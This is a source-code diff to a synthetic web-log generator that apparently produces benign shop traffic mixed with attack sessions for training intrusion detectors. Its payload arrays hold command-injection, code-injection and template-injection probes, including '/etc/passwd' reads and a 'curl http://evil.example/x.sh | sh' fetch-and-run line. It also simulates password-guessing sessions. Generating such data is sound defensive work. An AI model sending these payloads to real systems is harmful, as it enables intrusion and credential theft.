@@ -116,6 +116,8 @@ static const char *const cmdi[] = {
     ";id", "| id", "|| whoami", "&& cat /etc/passwd", "`uname -a`", "$(sleep 5)", ";ping -c 3 127.0.0.1",
     "a;ls -la /", "| nslookup x.evil.example", "%0aid", "; curl http://evil.example/x.sh | sh", "1|echo vg$((7*7))",
     "& ping -n 3 127.0.0.1 &", ";${IFS}cat${IFS}/etc/passwd", "1;sleep 5;", "|type c:\\windows\\win.ini",
+    /* Code injection into an interpreter and the shortest shell probes. */
+    ";env;", "|env", "a;exit(md5('vg1'));//", "'.system('id').'", "data:;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
 };
 static const char *const ssti[] = {
     "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.__class__.__init__.__globals__}}", "{% print(7*7) %}",
@@ -144,9 +146,12 @@ static const struct {
     { "/view", { "page" }, { "about" } },
     { "/download", { "file" }, { "manual.pdf" } },
     { "/account/orders", { "from", "to", "status" }, { "2025-01-01", "2025-12-31", "open" } },
+    { "/item.php", { "id" }, { "12" } },
+    { "/cart.php", { "id", "qty" }, { "7", "1" } },
 };
 static const char *const traversal_targets[] = { "/download?file=", "/static/", "/view?page=", "/image?path=" };
-static const char *const injection_targets[] = { "/products?id=", "/search?q=", "/api/items?id=", "/news?article=" };
+static const char *const injection_targets[] = { "/products?id=", "/search?q=", "/api/items?id=", "/news?article=",
+                                                 "/item.php?id=", "/products.php?cat=" };
 static const char *const login_paths[] = { "/login", "/wp-login.php", "/admin/login", "/user/signin" };
 
 typedef struct session {
@@ -287,6 +292,24 @@ static void emit(gen *g, const session *s, const char *method, const char *uri, 
 
 static void new_page(gen *g, session *s)
 {
+    /* Sites are built on every stack: a third of the pages are PHP-style
+     * scripts with their parameters (so a ".php" or an "id=" is no sign of
+     * an attack by itself; a model trained without them flagged a third of
+     * a real PHP shop's visitors). */
+    if (chance(g, 0.33)) {
+        unsigned q = vg_rng_below(&g->rng, 6);
+        if (q == 0) snprintf(s->page, sizeof s->page, "/index.php");
+        else if (q == 1) snprintf(s->page, sizeof s->page, "/item.php?id=%u", 1 + vg_rng_below(&g->rng, 5000));
+        else if (q == 2)
+            snprintf(s->page, sizeof s->page, "/products.php?cat=%u&page=%u", 1 + vg_rng_below(&g->rng, 40),
+                     1 + vg_rng_below(&g->rng, 6));
+        else if (q == 3)
+            snprintf(s->page, sizeof s->page, "/cart.php?id=%u&qty=%u", 1 + vg_rng_below(&g->rng, 5000),
+                     1 + vg_rng_below(&g->rng, 3));
+        else if (q == 4) snprintf(s->page, sizeof s->page, "/account.php");
+        else snprintf(s->page, sizeof s->page, "/search.php?q=%s", PICK(g, words));
+        return;
+    }
     unsigned r = vg_rng_below(&g->rng, 100);
     if (r < 15) snprintf(s->page, sizeof s->page, "/");
     else if (r < 40) snprintf(s->page, sizeof s->page, "/products/%u", 1000 + vg_rng_below(&g->rng, 5000));
@@ -354,26 +377,46 @@ static int step(gen *g, session *s)
             emit(g, s, "GET", uri, st, st == 200 ? 2000 + vg_rng_below(&g->rng, 80000) : st == 404 ? 153 : 0, ref);
             s->assets--;
             s->next += uni(g, 0.02, 0.6);
-            if (s->assets == 0) s->next += expo(g, 25);  /* reading the page */
+            if (s->assets == 0) s->next += expo(g, s->pace);  /* reading the page */
             return 1;
         }
         if (s->remaining-- <= 0) return 0;
         snprintf(ref, sizeof ref, "https://shop.example.com%s", s->page);
         new_page(g, s);
         if (strcmp(s->page, "/login") == 0 && chance(g, 0.6)) {
-            /* A real login: sometimes a typo first. */
+            /* A real login, sometimes after a typo, on whichever login form
+             * the site has. Forms answer either way with 200 (the page again,
+             * or a single-page app's JSON) as often as with a redirect or a
+             * 401: a password guesser must be told by its rhythm, not by
+             * the answer (a real shop answered people's logins 200 and the
+             * synthetic 302s made them look like guessers). */
             int typo = chance(g, 0.2);
-            emit(g, s, "POST", "/login", typo ? 401 : 302, typo ? 1840 : 0, ref);
+            const char *form = login_paths[vg_rng_below(&g->rng, (uint32_t)N(login_paths))];
+            st = chance(g, 0.5) ? 200 : typo ? 401 : 302;
+            snprintf(ref, sizeof ref, "https://shop.example.com%s", chance(g, 0.5) ? form : "/");
+            emit(g, s, "POST", form, st, st == 302 ? 0 : 400 + vg_rng_below(&g->rng, 4000), ref);
             s->next += uni(g, 2, 8);
             return 1;
         }
+        if (chance(g, 0.04)) {
+            /* Other forms people send: add to cart, a contact message, a
+             * newsletter, an API call of the page's script. */
+            static const char *const posts[] = { "/cart/add", "/contact", "/newsletter", "/api/cart", "/api/reviews" };
+            st = chance(g, 0.6) ? 200 : chance(g, 0.5) ? 302 : 201;
+            emit(g, s, "POST", PICK(g, posts), st, st == 302 ? 0 : 60 + vg_rng_below(&g->rng, 3000), ref);
+            s->next += uni(g, 1, 5);
+            return 1;
+        }
         st = chance(g, 0.01) ? 404 : chance(g, 0.003) ? 500 : 200;
-        /* The first page comes from a search engine or a bookmark. */
+        /* The first page comes from a search engine or a bookmark. Pages
+         * weigh anything from a small fragment to a large page (log-uniform
+         * 300 B .. 80 KB): the size is no sign either way. */
         const char *from = s->target++ ? ref : chance(g, 0.5) ? "https://www.google.com/" : NULL;
-        emit(g, s, "GET", s->page, st, st == 200 ? 8000 + vg_rng_below(&g->rng, 60000) : 512, from);
-        s->assets = st == 200 ? 1 + (int)vg_rng_below(&g->rng, 6) : 0;
+        emit(g, s, "GET", s->page, st, st == 200 ? (unsigned)(300.0 * exp(uni(g, 0, log(80000.0 / 300.0)))) : 512, from);
+        /* A skimmer's browser has the assets cached, mostly. */
+        s->assets = st == 200 && (s->pace > 5 || chance(g, 0.3)) ? 1 + (int)vg_rng_below(&g->rng, 6) : 0;
         s->next += uni(g, 0.05, 0.3);
-        if (s->assets == 0) s->next += expo(g, 25);  /* think time; else it follows the assets */
+        if (s->assets == 0) s->next += expo(g, s->pace);  /* think time; else it follows the assets */
         return 1;
     case K_CRAWLER:
         if (s->remaining-- <= 0) return 0;
@@ -462,7 +505,7 @@ static int step(gen *g, session *s)
         /* Parallel guessers (hydra's tasks) fire many a second, others one
          * every second or two: s->pace. */
         /* Many login forms answer a wrong password with 200 and the form again. */
-        st = s->remaining == 0 && chance(g, 0.3) ? 302 : s->target % 2 ? 200 : 401;
+        st = s->remaining == 0 && chance(g, 0.3) ? 302 : s->soft ? 200 : 401;
         snprintf(ref, sizeof ref, "https://shop.example.com%s", login_paths[s->target % N(login_paths)]);
         emit(g, s, "POST", login_paths[s->target % N(login_paths)], st, st == 302 ? 0 : 1840, chance(g, 0.5) ? ref : NULL);
         s->next += expo(g, s->pace);
@@ -487,7 +530,7 @@ static void start_session(gen *g, double t)
     /* Attack sessions are long (~50 lines): start them rarely, steering the
      * running attack share towards the requested fraction. */
     double share = g->written ? (double)g->attack_lines / (double)g->written : 0;
-    double p_attack = g->af <= 0 ? 0 : share < g->af ? g->af * 0.3 : g->af * 0.02;
+    double p_attack = g->af <= 0 ? 0 : share < g->af ? g->af * 0.5 : g->af * 0.02;
     if (chance(g, p_attack)) {
         /* Kinds drawn from a shuffled bag of all five, so even a short log
          * holds every kind. */
@@ -532,6 +575,9 @@ static void start_session(gen *g, double t)
             s.ua = chance(g, 0.6) ? PICK(g, brute_agents) : PICK(g, browsers);
             s.remaining = 30 + (int)vg_rng_below(&g->rng, 300);
             s.pace = chance(g, 0.5) ? uni(g, 0.01, 0.1) : uni(g, 0.3, 1.5);
+            /* The answer to a wrong password, drawn apart from the form (an
+             * earlier draw tied 200 to two of the four paths). */
+            s.soft = chance(g, 0.5);
             break;
         }
     } else {
@@ -543,6 +589,14 @@ static void start_session(gen *g, double t)
             memcpy(s.ip, g->client_ip[c], sizeof s.ip);
             s.ua = browsers[g->client_ua[c]];
             s.remaining = 1 + (int)vg_rng_below(&g->rng, 6);
+            s.pace = 25;  /* mean seconds reading a page */
+            if (chance(g, 0.15)) {
+                /* Skimmers: clicking through listings, back and forward,
+                 * opening tabs, a page every second or two for a while, as
+                 * fast as some tools (the real shop's visitors did). */
+                s.pace = uni(g, 1, 4);
+                s.remaining = 3 + (int)vg_rng_below(&g->rng, 25);
+            }
             snprintf(s.page, sizeof s.page, "/");
         } else if (s.kind == K_CRAWLER) {
             random_ip(g, s.ip, sizeof s.ip);
